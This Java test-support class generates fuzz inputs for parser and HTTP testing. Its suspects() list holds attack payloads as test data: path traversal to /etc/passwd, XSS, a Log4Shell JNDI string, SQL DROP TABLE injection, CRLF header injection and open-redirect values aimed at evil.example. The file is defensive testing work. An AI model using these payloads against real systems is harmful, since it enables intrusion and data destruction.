package org.openaccess.partner.core.fuzz;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/** Text that breaks parsers: control characters, separators, unicode beyond the BMP, huge values, and the usual suspects. */
public final class FuzzText {
    private FuzzText() {}

    /** Characters that have tripped HTTP stacks: CR, LF, NUL, tab, DEL, U+2028/9, the separators of cookies and queries. */
    public static Arbitrary<Character> chars() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of('\r', '\n', '\0', '\t', '\u007f', '\u2028', '\u2029', '\u0085', '\ufeff')),
                Tuple.of(
                        3, Arbitraries.of(';', ',', '=', '&', '%', '+', '"', '\'', '<', '>', '/', '\\', '#', '?', ' ')),
                Tuple.of(2, Arbitraries.chars().range('\u0000', '\u001f')),
                Tuple.of(4, Arbitraries.chars().alpha().numeric()),
                Tuple.of(2, Arbitraries.chars().range('\u00a0', '\uffff')));
    }

    /** Any of the kinds below; huge values are rare (they cost time) but always in the mix. */
    public static Arbitrary<String> nasty() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, chars().list().ofMaxSize(40).map(FuzzText::join)),
                Tuple.of(3, Arbitraries.strings().ofMaxLength(30)), // any char, lone surrogates included
                Tuple.of(
                        2,
                        Arbitraries.strings()
                                .withCharRange('a', 'z')
                                .ofMinLength(1)
                                .ofMaxLength(20)),
                Tuple.of(2, suspects()),
                Tuple.of(1, Arbitraries.integers().between(2_000, 20_000).map(n -> "A".repeat(n))),
                Tuple.of(1, Arbitraries.strings().ofMinLength(1).ofMaxLength(8).map(s -> s.repeat(500))),
                Tuple.of(
                        1,
                        Arbitraries.of("\uD83C\uDFA7", "日本語", "é", "\u0301", "\uD800", "\uDFFF")
                                .list()
                                .ofMaxSize(20)
                                .map(l -> String.join("", l))));
    }

    private static String join(java.util.List<Character> chars) {
        StringBuilder text = new StringBuilder(chars.size());
        chars.forEach(text::append);
        return text.toString();
    }

    private static Arbitrary<String> suspects() {
        return Arbitraries.of(
                "",
                " ",
                "null",
                "undefined",
                "%",
                "%00",
                "%zz",
                "%e9",
                "%C0%AF",
                "%0d%0aSet-Cookie:%20a=b",
                "../../etc/passwd",
                "<script>alert(1)</script>",
                "\"><img src=x>",
                "${jndi:ldap://x/a}",
                "{{7*7}}",
                "'; DROP TABLE links; --",
                "a\r\nLocation: https://evil.example",
                "javascript:alert(1)",
                "//evil.example",
                "https://evil.example@127.0.0.1:3000",
                "\u0000\u0000\u0000",
                "-1",
                "0",
                "9999999999999999999999",
                "NaN",
                "true",
                "[]",
                "{}");
    }
}
